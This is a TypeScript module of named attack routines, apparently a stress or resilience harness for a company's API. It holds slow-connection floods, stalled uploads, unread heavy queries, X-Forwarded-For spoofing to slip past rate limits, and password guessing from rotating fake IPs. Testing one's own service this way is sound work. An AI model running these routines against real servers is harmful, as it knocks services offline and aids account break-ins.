import { Agent } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

import { WIDE, type LargeData } from './large.js';
import { operationsOf } from './operations.js';
import { fit, repeat } from './repeat.js';
import { send } from './request.js';
import type { Operation } from './requests.js';

/** Attacks a server with the rights of the large company, or with none, until its process is killed. */
export type Attack = (url: string, data: LargeData) => Promise<unknown>;

const NETWORKS = 300_000;
const NETWORKS_EACH_SECOND = 150;
const READERS = 20;
const DRIPPING = 30;
const DRIP_MS = 1_000;
const PASSWORD_MS = 250;
const PAUSE_MS = 1_000;
const WIDE_PAUSE_MS = 20_000;
const TURN_MS = 5_000;

const forever = async (step: () => Promise<unknown>): Promise<never> => {
  for (;;) await step();
};

/** Repeats each of these operations for a few seconds, in turn. */
function operations(named: RegExp, connections: number, pauseMs: number): Attack {
  return async (url, data) => {
    const chosen: { operation: Operation; size: number }[] = [];
    for (const operation of operationsOf(data).filter(({ name }) => named.test(name))) {
      const { size } = await fit(url, operation);
      if (size > 0) chosen.push({ operation, size });
    }
    if (chosen.length === 0) throw new Error(`The limits allow no operation of ${String(named)}`);
    let turn = 0;
    await forever(async () => {
      const [{ operation, size }] = chosen.slice(turn++ % chosen.length) as [(typeof chosen)[number]];
      const { times, ...repeated } = operation;
      const limited = { ...repeated, connections, ...(times === undefined ? {} : { times: 1 }) };
      await repeat(url, limited, size, TURN_MS);
      await sleep(pauseMs);
    });
  };
}

/** Sends bytes on a connection, reads nothing, and starts again when the server closes it. */
async function hold(url: string, begin: string, dripMs: number | null): Promise<never> {
  const { hostname, port } = new URL(url);
  return await forever(async () => {
    const socket = connect(Number(port), hostname).pause();
    socket.on('error', () => undefined);
    socket.write(begin);
    const timer = dripMs === null ? null : setInterval(() => void socket.write('x'), dripMs);
    // A paused socket does not notice its end: it is looked at once in a while.
    await Promise.race([new Promise((resolve) => socket.once('close', resolve)), sleep(90_000)]);
    if (timer !== null) clearInterval(timer);
    socket.destroy();
    await sleep(PAUSE_MS);
  });
}

/** Asks for large responses and for all events of the past, and reads nothing. */
const readers: Attack = async (url, { token }) => {
  const authorization = `Authorization: Bearer ${token}\r\nHost: a\r\n`;
  const query = '{ transactions(first: 100) { nodes { sent received detail parsed { amount metadata } } } }';
  const body = JSON.stringify({ query });
  const large = `POST /graphql HTTP/1.1\r\n${authorization}Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  const follow = encodeURIComponent(
    'subscription { transactionRecorded(after: 1) { sequence transaction { sent received } } }',
  );
  const stream = `GET /graphql/stream?query=${follow} HTTP/1.1\r\n${authorization}Accept: text/event-stream\r\nApollo-Require-Preflight: 1\r\n\r\n`;
  const list = `GET /v1/transactions?per_page=100 HTTP/1.1\r\n${authorization}\r\n`;
  const begins = [large.repeat(20), stream, list.repeat(100)];
  await Promise.all(begins.flatMap((begin) => Array.from({ length: READERS }, () => hold(url, begin, null))));
};

/** Begins uploads and sends a byte a second. */
const uploads: Attack = async (url, { token }) => {
  const part = '--part\r\nContent-Disposition: form-data; name="asset"; filename="slow.bin"\r\n\r\n';
  const begin = `POST /v1/files HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: multipart/form-data; boundary=part\r\nContent-Length: 30000000\r\n\r\n${part}${'x'.repeat(300_000)}`;
  await Promise.all(Array.from({ length: DRIPPING }, () => hold(url, begin, DRIP_MS)));
};

const hex = (n: number): string => n.toString(16);
const agent = new Agent({ keepAlive: true, maxSockets: 8 });

/** Requests that are refused, from 300,000 IPv6 networks, one after the other. */
const networks: Attack = async (url) => {
  let n = 0;
  await forever(async () => {
    const batch = Array.from({ length: NETWORKS_EACH_SECOND / 10 }, () => {
      n = (n + 1) % NETWORKS;
      const address = `2001:${hex(0xd00 + (n >> 18))}:${hex((n >> 4) & 0xffff)}:${hex(n & 15)}::1`;
      const headers = { 'x-forwarded-for': address, authorization: 'Bearer none' };
      return send(url, { method: 'GET', path: '/v1/devices', headers }, agent);
    });
    await Promise.all([...batch, sleep(100)]);
  });
};

/** Wrong passwords for accounts of all companies, from many networks. */
const passwords: Attack = async (url) => {
  let n = 0;
  await forever(async () => {
    n += 1;
    const email = ['bench', 'other', 'third', `nobody${n}`][n % 4] ?? '';
    const body = JSON.stringify({ email: `${email}@bench.example`, password: `wrong password ${n}` });
    const headers = {
      'content-type': 'application/json',
      'x-forwarded-for': `198.51.${(n >> 8) & 255}.${n & 255}`,
    };
    await Promise.all([
      send(url, { method: 'POST', path: '/v1/users/token', headers, body }, agent),
      sleep(PASSWORD_MS),
    ]);
  });
};

/** Takes a version from 100,000 numbers, gives it back, and notifies them. */
const wide: Attack = async (url, { token, sizes }) => {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const put = (groupIds: readonly number[]) => ({
    ...{ method: 'PUT', path: `/v1/apps/1/versions/${WIDE.versions.changed}`, headers },
    body: JSON.stringify({ group_ids: groupIds }),
  });
  const notification = { content: `SHOW_MESSAGE|${sizes.wide}`, range: 'group', group_id: WIDE.group };
  const notify = { method: 'POST', path: '/v1/notifications', headers, body: JSON.stringify(notification) };
  await forever(async () => {
    for (const request of [put([]), put([WIDE.group]), notify]) {
      await send(url, request, agent);
      await sleep(WIDE_PAUSE_MS);
    }
  });
};

/** By name; each runs in a process of its own. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  filters: operations(/^GraphQL: (filter|count|page and count|ledger)/, 4, PAUSE_MS),
  summaries: operations(/summary|nested|deep page|last page/, 2, PAUSE_MS),
  bulk: operations(/1,000 (parameters|payments)/, 1, PAUSE_MS),
  ...{ readers, uploads, networks, passwords, wide },
};
